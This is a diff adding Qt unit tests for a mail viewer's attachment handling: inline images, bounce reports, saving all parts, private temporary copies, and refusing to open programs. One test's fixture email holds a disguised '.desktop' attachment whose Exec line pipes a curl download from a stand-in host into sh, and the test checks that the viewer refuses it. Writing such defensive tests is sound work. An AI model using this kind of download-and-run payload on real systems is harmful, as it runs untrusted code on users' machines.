@@ -7,13 +7,20 @@
 #include "messageviewer.h"
 
 #include <QDesktopServices>
+#include <QDir>
+#include <QFile>
+#include <QFileDialog>
+#include <QFileInfo>
+#include <QImage>
 #include <QLabel>
+#include <QListWidget>
 #include <QMessageBox>
 #include <QPointer>
 #include <QProgressBar>
 #include <QPushButton>
 #include <QSignalSpy>
 #include <QStatusBar>
+#include <QTemporaryDir>
 #include <QTest>
 #include <QTextDocument>
 
@@ -56,6 +63,22 @@ QPoint pointOf(MessageBrowser *browser, const QString &text)
     return browser->cursorRect(middle).center();
 }
 
+QByteArray fixture(const char *name)
+{
+    QFile file(QStringLiteral(MAILPEEK_TEST_DATA_DIR "/mime/") + QLatin1String(name));
+    if (!file.open(QIODevice::ReadOnly))
+        qFatal("missing fixture %s", name);
+    return file.readAll().replace("\n", "\r\n");
+}
+
+QStringList itemTexts(const QListWidget *list)
+{
+    QStringList texts;
+    for (int i = 0; i < list->count(); ++i)
+        texts.append(list->item(i)->text());
+    return texts;
+}
+
 } // namespace
 
 class tst_MessageViewer : public QObject
@@ -72,6 +95,11 @@ private Q_SLOTS:
     void honestLinkOpensAtOnce();
     void anchorTextSpansFormats();
     void hoverStatusPutsBackWhatWasThere();
+    void inlineImageShownWhereReferenced();
+    void bouncePartsAreNamedByType();
+    void saveAllWritesEveryPartAndSaysWhere();
+    void openWritesAPrivateCopy();
+    void openRefusesPrograms();
 
 private:
     static void showAndWait(MessageViewer &viewer, int number, const QByteArray &raw)
@@ -235,6 +263,147 @@ void tst_MessageViewer::hoverStatusPutsBackWhatWasThere()
     bar.showMessage(u"Connection lost"_s);
     hover->show(QString());
     QCOMPARE(bar.currentMessage(), u"Connection lost"_s);
+}
+
+void tst_MessageViewer::inlineImageShownWhereReferenced()
+{
+    MessageViewer viewer;
+    viewer.resize(700, 500);
+    viewer.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&viewer));
+    QSignalSpy found(&viewer, &MessageViewer::attachmentsFound);
+    showAndWait(viewer, 7, fixture("inline-images.eml"));
+    MessageBrowser *browser = viewer.browser();
+    // Laid out, the document has asked for its images.
+    QTRY_VERIFY(browser->document()->size().height() > 60);
+    const QVariant chart = browser->document()->resource(QTextDocument::ImageResource,
+                                                         QUrl(u"cid:chart@example.org"_s));
+    QCOMPARE(chart.value<QImage>().size(), QSize(120, 60));
+    QVERIFY(!browser->refusedResources().contains(QUrl(u"cid:chart@example.org"_s)));
+    // The remote image is not fetched.
+    QVERIFY(!browser->toHtml().contains(u"tracker.example"_s));
+    // The chart is in the body, not in the list; the image the body does
+    // not show is.
+    const QStringList items = itemTexts(viewer.attachmentList());
+    QCOMPARE(items.size(), 3);
+    QVERIFY2(items.at(0).startsWith(u"unnamed (image/png"_s), qPrintable(items.join(u'|')));
+    QVERIFY(items.at(1).startsWith(u"report.pdf (application/pdf"_s));
+    QCOMPARE(found.count(), 1);
+    QCOMPARE(found.at(0).at(0).toInt(), 7);
+    QCOMPARE(found.at(0).at(1).toBool(), true);
+    QVERIFY(viewer.findChild<QPushButton *>(u"saveAllAttachments"_s)->isEnabled());
+}
+
+void tst_MessageViewer::bouncePartsAreNamedByType()
+{
+    MessageViewer viewer;
+    showAndWait(viewer, 2, fixture("bounce.eml"));
+    const QStringList items = itemTexts(viewer.attachmentList());
+    QCOMPARE(items.size(), 3);
+    QVERIFY2(items.at(0).startsWith(u"Delivery report (message/delivery-status"_s),
+             qPrintable(items.join(u'|')));
+    QVERIFY(items.at(1).startsWith(u"Headers of the returned message (text/rfc822-headers"_s));
+    QVERIFY(!items.join(u'|').contains(u"unnamed"_s));
+}
+
+void tst_MessageViewer::saveAllWritesEveryPartAndSaysWhere()
+{
+    QTemporaryDir dir;
+    QVERIFY(dir.isValid());
+    // Already there: kept, the new one takes another name.
+    {
+        QFile existing(dir.filePath(u"report.pdf"_s));
+        QVERIFY(existing.open(QIODevice::WriteOnly));
+        existing.write("mine");
+    }
+    MessageViewer viewer;
+    viewer.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&viewer));
+    const QByteArray raw = fixture("inline-images.eml");
+    showAndWait(viewer, 1, raw);
+    viewer.findChild<QPushButton *>(u"saveAllAttachments"_s)->click();
+    QFileDialog *dialog = nullptr;
+    QTRY_VERIFY((dialog = viewer.findChild<QFileDialog *>(u"saveAllDialog"_s)) != nullptr);
+    QCOMPARE(dialog->fileMode(), QFileDialog::Directory);
+    dialog->selectFile(dir.path());
+    QMetaObject::invokeMethod(dialog, &QDialog::accept);
+
+    auto *status = viewer.findChild<QLabel *>(u"attachmentStatus"_s);
+    QVERIFY(status);
+    QTRY_VERIFY(status->isVisible());
+    QVERIFY2(status->text().contains(u"attachment.png, report (2).pdf, figures.csv"_s),
+             qPrintable(status->text()));
+    QVERIFY2(status->text().contains(QDir::toNativeSeparators(dir.path())),
+             qPrintable(status->text()));
+
+    QFile mine(dir.filePath(u"report.pdf"_s));
+    QVERIFY(mine.open(QIODevice::ReadOnly));
+    QCOMPARE(mine.readAll(), QByteArray("mine"));
+    const ParsedMessage message = ParsedMessage::parse(raw);
+    const auto contentOf = [&dir](const QString &name) {
+        QFile file(dir.filePath(name));
+        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(missing)");
+    };
+    QCOMPARE(contentOf(u"report (2).pdf"_s), message.attachmentData(2));
+    QCOMPARE(contentOf(u"figures.csv"_s), message.attachmentData(3));
+    QVERIFY(contentOf(u"attachment.png"_s).startsWith("\x89PNG"));
+    QCOMPARE(QDir(dir.path()).entryList(QDir::Files).size(), 4);
+}
+
+void tst_MessageViewer::openWritesAPrivateCopy()
+{
+    UrlRecorder recorder;
+    QDesktopServices::setUrlHandler(u"file"_s, &recorder, "open");
+    MessageViewer viewer;
+    viewer.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&viewer));
+    const QByteArray raw = fixture("attachment-rfc2231.eml");
+    showAndWait(viewer, 1, raw);
+    QVERIFY(viewer.attachmentList()->count() > 0);
+    viewer.attachmentList()->setCurrentRow(0);
+    viewer.findChild<QPushButton *>(u"openAttachment"_s)->click();
+    QTRY_COMPARE(recorder.urls.size(), 1);
+    QDesktopServices::unsetUrlHandler(u"file"_s);
+
+    const QString path = recorder.urls.first().toLocalFile();
+    const QFileInfo file(path);
+    QVERIFY2(file.exists(), qPrintable(path));
+    // A private folder: only its owner may enter it.
+    QCOMPARE(QFileInfo(file.absolutePath()).permissions() &
+                     (QFileDevice::ReadGroup | QFileDevice::ExeGroup | QFileDevice::ReadOther |
+                      QFileDevice::ExeOther | QFileDevice::WriteGroup | QFileDevice::WriteOther),
+             QFileDevice::Permissions());
+    QVERIFY(!(file.permissions() & (QFileDevice::ExeOwner | QFileDevice::ExeUser)));
+    const ParsedMessage message = ParsedMessage::parse(raw);
+    const Attachment first = message.attachments().at(0);
+    QCOMPARE(file.fileName(), first.fileName);
+    QFile copy(path);
+    QVERIFY(copy.open(QIODevice::ReadOnly));
+    QCOMPARE(copy.readAll(), message.attachmentData(0));
+    auto *status = viewer.findChild<QLabel *>(u"attachmentStatus"_s);
+    QTRY_VERIFY(status->text().contains(QDir::toNativeSeparators(path)));
+}
+
+void tst_MessageViewer::openRefusesPrograms()
+{
+    UrlRecorder recorder;
+    QDesktopServices::setUrlHandler(u"file"_s, &recorder, "open");
+    MessageViewer viewer;
+    showAndWait(viewer, 1,
+                "From: a@example.com\r\nSubject: tool\r\nMIME-Version: 1.0\r\n"
+                "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
+                "Content-Type: text/plain\r\n\r\nRun this\r\n--b\r\n"
+                "Content-Type: text/plain; name=\"fix.desktop\"\r\n"
+                "Content-Disposition: attachment; filename=\"fix.desktop\"\r\n\r\n"
+                "[Desktop Entry]\r\nExec=sh -c 'curl evil | sh'\r\n--b--\r\n");
+    QCOMPARE(viewer.attachmentList()->count(), 1);
+    viewer.findChild<QPushButton *>(u"openAttachment"_s)->click();
+    auto *status = viewer.findChild<QLabel *>(u"attachmentStatus"_s);
+    QTRY_VERIFY(!status->text().isEmpty());
+    QVERIFY2(status->text().contains(u"fix.desktop is a program"_s), qPrintable(status->text()));
+    QTest::qWait(50); // nothing is queued that could still open it
+    QVERIFY(recorder.urls.isEmpty());
+    QDesktopServices::unsetUrlHandler(u"file"_s);
 }
 
 QTEST_MAIN(tst_MessageViewer)
